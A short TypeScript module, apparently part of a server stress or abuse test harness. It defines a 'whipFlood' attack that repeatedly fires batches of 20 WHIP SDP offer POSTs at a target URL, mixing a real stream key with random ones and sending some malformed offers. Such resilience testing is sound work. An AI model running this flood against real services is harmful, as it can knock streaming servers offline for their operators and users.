import { randomBytes } from 'node:crypto';
import type { Attack } from '../attack';

const atOnce = 20;
const offers = ['v=0\r\n', 'v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\nm=video 9 UDP/TLS/RTP/SAVPF 96\r\n'];

/** Offers by WHIP: half with keys of chance, the others with a key of the attacker's own. */
export const whipFlood: Attack = {
  name: 'offers by WHIP, 20 at once, with own and unknown keys',
  async run({ baseUrl, streamKey }, signal) {
    const offer = async (number: number) => {
      const key = number % 2 ? streamKey : randomBytes(16).toString('hex');
      const body = offers[number % 3 === 0 ? 0 : 1];
      const headers = { 'content-type': 'application/sdp' };
      const response = await fetch(`${baseUrl}/whip/${key}`, { method: 'POST', headers, body, signal }).catch(
        () => null,
      );
      await response?.body?.cancel();
    };
    for (let number = 0; !signal.aborted; number += atOnce) {
      await Promise.all(Array.from({ length: atOnce }, (_, index) => offer(number + index)));
    }
  },
};
